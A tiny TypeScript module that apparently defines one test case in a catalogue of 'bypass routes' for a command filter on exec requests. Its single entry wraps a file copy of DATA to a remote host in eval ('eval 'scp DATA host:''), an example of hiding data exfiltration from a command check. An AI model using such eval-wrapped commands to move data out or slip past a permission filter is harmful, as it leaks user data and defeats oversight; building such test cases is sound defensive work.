import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'command',
  name: 'command: by eval',
  source: 'commands of one exec request',
  words: ["eval 'scp DATA host:'"],
};
